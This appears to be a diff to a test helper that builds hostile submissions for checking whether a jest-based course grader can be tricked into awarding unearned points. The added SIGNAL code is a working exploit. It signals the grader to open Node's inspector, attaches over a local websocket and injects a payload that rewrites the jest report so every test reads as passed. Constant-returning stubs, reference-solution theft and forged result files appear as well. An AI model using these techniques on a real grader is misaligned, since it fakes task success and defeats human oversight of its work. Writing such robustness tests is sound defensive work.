@@ -3,9 +3,11 @@
  * and costs.ts are the reference), and every other way we know to take points without earning
  * them. Each attack sits in a module whose honest score we know, so a grade that differs from the
  * honest one shows which attack worked:
- *   network.ts            a stub that replaces jest's expect, writes a jest report where every
- *                         test passed to the grader's --outputFile and exits 0, writes fake
- *                         result files (grade/results.json) and spawns a process
+ *   network.ts            functions that compute nothing (constants of the right shapes, inputs
+ *                         changed to fit), which signal the grader to open its inspector and
+ *                         rewrite its report through it, replace jest's expect, write a jest report
+ *                         where every test passed to the grader's --outputFile and exit 0, write
+ *                         fake result files (grade/results.json) and spawn a process
  *   logistic_regression   a stub that reads the reference's solution from the course checkout
  *   one_hidden_layer.ts   a stub that calls process.exit(0) in the middle of a test run
  *   activations.ts        the reference plus a trailing syntax error: does not compile, 0
@@ -58,6 +60,53 @@ try { require('node:child_process').execSync('touch ${forgedFiles(dir)[2]}'); } 
 try { new (require('node:worker_threads').Worker)('1', { eval: true }); } catch { /* denied */ }
 `;
 
+// ---- hostile: a signal to the grader (jest), whose inspector then runs code that passes every test.
+// Node 20's permission model does not guard signals or the network: this forged 43/43 until the
+// sandbox lost process.kill and the grader ignored SIGUSR1.
+const SIGNAL = `
+const PAYLOAD = \`(() => { const fs = process.mainModule.require('fs');
+  const out = process.argv.find((a) => a.startsWith('--outputFile=')).slice(13);
+  process.on('exit', () => { const j = JSON.parse(fs.readFileSync(out, 'utf8'));
+    for (const s of j.testResults) { s.status = 'passed'; for (const a of s.assertionResults) { a.status = 'passed'; a.failureMessages = []; } }
+    fs.writeFileSync(out, JSON.stringify(j)); }); return 'ok'; })()\`;
+function signalTheGrader() {
+  try { process.kill(process.ppid, 'SIGUSR1'); } catch { /* no kill */ }
+  try { process._debugProcess(process.ppid); } catch { /* no _debugProcess */ }
+  let net, http;
+  try { net = require('node:net'); http = require('node:http'); } catch { return; }
+  process.on('uncaughtException', () => undefined);
+  const concat = Buffer.concat; // the runner's read loop calls Buffer.concat next: leave it, so the event loop runs
+  Buffer.concat = () => { Buffer.concat = concat; throw new Error('x'); };
+  const attach = (path) => {
+    const s = net.connect(9229, '127.0.0.1', () => s.write('GET ' + path + ' HTTP/1.1\\r\\nHost: 127.0.0.1:9229\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n'));
+    let up = false;
+    s.on('data', () => { if (up) return; up = true;
+      const pl = Buffer.from(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression: PAYLOAD, includeCommandLineAPI: true } }));
+      const h = pl.length < 126 ? Buffer.from([0x81, 0x80 | pl.length]) : Buffer.from([0x81, 0xfe, pl.length >> 8, pl.length & 255]);
+      s.write(Buffer.concat([h, Buffer.alloc(4), pl])); });
+    s.on('error', () => undefined);
+  };
+  const list = (n) => setTimeout(() => http.get('http://127.0.0.1:9229/json/list', (res) => { let b = '';
+    res.on('data', (d) => (b += d)); res.on('end', () => attach(new URL(JSON.parse(b)[0].webSocketDebuggerUrl).pathname)); })
+    .on('error', () => n > 0 && list(n - 1)), 200);
+  setImmediate(() => list(20));
+}
+`;
+
+// ---- hostile: functions that compute nothing, of the right shapes, and change their inputs so that
+// an expected value computed from them afterwards would agree; each earns 0 (a passing property
+// counts only beside a passing test of the function's values)
+const CONSTANTS = `
+let signalled = false;
+export function evaluateNetwork(x, w, b, Wt, bt) {
+  if (!signalled) { signalled = true; signalTheGrader(); }
+  return [x.map(() => 0.5), x.map(() => 0), x.map(() => [0.5, 0.5]), x.map(() => [0, 0])];
+}
+export function lossFunction(x, t) { t.fill(0.5); return 0.125; }
+export function updateWeights(x, t, w, b, Wt, bt) { return [w.slice(), b, Wt.map((row) => row.slice()), bt.slice()]; }
+export function evaluatePrediction(x, t) { t.fill(1); return [x.map(() => 1), 1]; }
+`;
+
 const STEAL = (module: string) => `
 // ---- hostile: the solution from the course checkout ----
 try {
@@ -78,7 +127,7 @@ export function writeHostileSubmission(dir: string): void {
   const hostile = (text: string) => `// @ts-nocheck -- a hostile submission\n${text}`;
   writeFileSync(path.join(exercises, 'neuron.ts'), hostile(read('reference', 'neuron') + TAMPER(dir)));
   writeFileSync(path.join(exercises, 'costs.ts'), hostile(read('reference', 'costs') + STEAL('costs')));
-  writeFileSync(path.join(exercises, 'network.ts'), hostile(read('exercises', 'network') + TAMPER(dir)));
+  writeFileSync(path.join(exercises, 'network.ts'), hostile(CONSTANTS + SIGNAL + TAMPER(dir)));
   writeFileSync(path.join(exercises, 'logistic_regression.ts'), hostile(read('exercises', 'logistic_regression') + STEAL('logistic_regression')));
   writeFileSync(
     path.join(exercises, 'one_hidden_layer.ts'),
